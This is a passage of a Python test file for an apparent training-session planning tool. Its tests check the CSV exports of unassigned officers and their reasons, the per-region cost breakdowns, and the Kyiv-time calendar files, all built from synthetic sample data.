            "district": "gamma-central",
            "unavailable": "",
        }
    )
    data_dict["officers"][16]["unavailable"] = "2009-06-02"  # ALP-0017 on leave that day
    data_dir = write_data(tmp_path / "data", data_dict)
    document = valid_plan()
    document["sessions"][0]["officers"] = ALPHA_OFFICERS[:15]

    result = export(tmp_path, data_dir, document)

    assert result.exit_code == 0, result.output
    rows = read_csv(tmp_path / "out" / "unassigned.csv")
    assert list(rows[0]) == ["officer_id", "officer_name", "region", "district", "reason"]
    assert [row["officer_id"] for row in rows] == [*ALPHA_OFFICERS[15:], "GAM-0001"]
    by_id = {row["officer_id"]: row for row in rows}
    assert by_id["ALP-0016"]["district"] == "alpha-south"
    assert by_id["ALP-0016"]["officer_name"] == "Офіцер ALP 16"
    # the words of explain --officer
    assert by_id["ALP-0016"]["reason"].startswith(
        "nothing kept them out of alpha-01 (2009-06-02): a free seat"
    )
    counts = (
        "and is not allowed: counts: region alpha runs 1 of its max 1 sessions "
        "(sessions.per_region.max); counts: the plan runs 2 of sessions.max_total 2 sessions"
    )
    assert by_id["ALP-0017"]["reason"].startswith(
        "each of the 1 session(s) of region alpha was closed to them (on leave on 1); "
        "one more session for them costs at least EUR 100.00"
    )
    assert by_id["ALP-0017"]["reason"].endswith(counts)
    assert by_id["GAM-0001"]["reason"].startswith("the plan has no session in region gamma; ")
    assert by_id["GAM-0001"]["reason"].endswith(
        "and is not allowed: counts: the plan runs 2 of sessions.max_total 2 sessions"
    )
    args = ["explain", "--officer", "GAM-0001", "--plan", str(tmp_path / "plan.json")]
    explained = runner.invoke(app, [*args, "--data", str(data_dir)])
    assert by_id["GAM-0001"]["reason"] in " ".join(explained.stdout.split())


def test_an_officer_kept_out_by_leave_and_full_sessions_is_told_so(tmp_path: Path) -> None:
    data_dict = tiny()
    data_dict["regions"]["regions"][0]["venues"][0]["capacity"] = 19
    data_dict["officers"][19]["unavailable"] = "2009-06-02"  # ALP-0020
    data_dir = write_data(tmp_path / "data", data_dict)
    document = valid_plan()
    document["sessions"][0]["officers"] = ALPHA_OFFICERS[:19]

    assert export(tmp_path, data_dir, document).exit_code == 0

    rows = read_csv(tmp_path / "out" / "unassigned.csv")
    assert [row["officer_id"] for row in rows] == ["ALP-0020"]
    # on leave that day as well: one more seat would not take them, so no seat is offered
    assert rows[0]["reason"].startswith(
        "each of the 1 session(s) of region alpha was closed to them "
        "(on leave on 1; full on 1); one more session for them costs at least"
    )
    assert "seats:" not in rows[0]["reason"]


def test_costs_csv_by_region_and_component_adds_up_to_the_plan_cost(tmp_path: Path) -> None:
    # alpha: t01 at home 100 + per diem 20; hall 150; 22 people x 12.50; 20 officers x 8.
    # beta: t02 at home 120; hall 90.50; 22 x 12.50; 20 x 8.
    data_dir = write_data(tmp_path / "data", with_contacts(tiny()))
    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0

    raw = (tmp_path / "out" / "costs.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfregion,component,eur\r\n")
    rows = read_csv(tmp_path / "out" / "costs.csv")
    table = {(row["region"], row["component"]): row["eur"] for row in rows}
    assert len(rows) == len(table) == 2 * 7
    assert [row["component"] for row in rows[:7]] == [
        "trainer_fees",
        "trainer_travel",
        "per_diem",
        "hotel",
        "venue_hire",
        "catering",
        "officer_travel",
    ]
    assert [table[("alpha", c)] for c in ("trainer_fees", "per_diem", "venue_hire")] == [
        "100.00",
        "20.00",
        "150.00",
    ]
    assert table[("alpha", "trainer_travel")] == table[("alpha", "hotel")] == "0.00"
    assert table[("alpha", "catering")] == table[("beta", "catering")] == "275.00"
    assert table[("beta", "officer_travel")] == "160.00"
    assert table[("beta", "venue_hire")] == "90.50"
    total = sum(float(value) for value in table.values())
    assert total == pytest.approx(120 + 150 + 275 + 160 + 120 + 90.5 + 275 + 160)
    metric = check_plan(load_data(data_dir), parse_plan(valid_plan())).metrics["cost_eur"]
    assert total == pytest.approx(metric)


def test_calendar_events_carry_kyiv_times_contacts_and_the_time_zone(tmp_path: Path) -> None:
    data_dir = write_data(tmp_path / "data", with_contacts(tiny()))
    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0

    raw = (tmp_path / "out" / "calendars" / "t01.ics").read_bytes().decode("utf-8")
    unfolded = raw.replace("\r\n ", "")
    assert "DTSTART;TZID=Europe/Kyiv:20090602T100000\r\n" in unfolded
    assert "DTEND;TZID=Europe/Kyiv:20090602T173000\r\n" in unfolded
    assert raw.count("BEGIN:VTIMEZONE") == 1 and "TZID:Europe/Kyiv" in raw
    assert raw.index("BEGIN:VTIMEZONE") < raw.index("BEGIN:VEVENT")
    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")[uid("alpha-01", "t01")]
    contacts = [str(c) for c in event["CONTACT"]]
    assert contacts == [
        "Alpha police directorate, +380 44 000 01 00",
        "Alpha Women's Centre: Hotline +380 44 000 02 01",
    ]
    description = str(event["DESCRIPTION"])
    for expected in (
        "Time: 10:00-17:30 (Kyiv time)",
        "Venue: Alpha Hall, vul. Shevchenka 1, Alpha City",
        "Police directorate: Alpha police directorate, +380 44 000 01 00",
        "NGOs: Alpha Women's Centre (Hotline +380 44 000 02 01)",
    ):
        assert expected in description
    # 10:00 in Kyiv on a June day is 07:00 UTC (summer time, UTC+3)
    start = event.decoded("DTSTART")
    assert start.utcoffset() == timedelta(hours=3)

    # the same plan again: byte for byte the same calendars
    before = raw
    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0
    assert (tmp_path / "out" / "calendars" / "t01.ics").read_bytes().decode("utf-8") == before


def test_all_day_calendars_without_times_and_a_new_sequence_when_times_are_set(
    tmp_path: Path, tiny_folder: Path
) -> None:
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    raw = (tmp_path / "out" / "calendars" / "t01.ics").read_bytes().decode("utf-8")
    assert "DTSTART;VALUE=DATE:20090602" in raw and "VTIMEZONE" not in raw

    timed = write_data(tmp_path / "timed", with_contacts(tiny()))
    assert export(tmp_path, timed, valid_plan()).exit_code == 0
    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")[uid("alpha-01", "t01")]
    assert int(event["SEQUENCE"]) == 1  # the time is news to the phone
    assert str(event["DTSTART"].params["TZID"]) == "Europe/Kyiv"
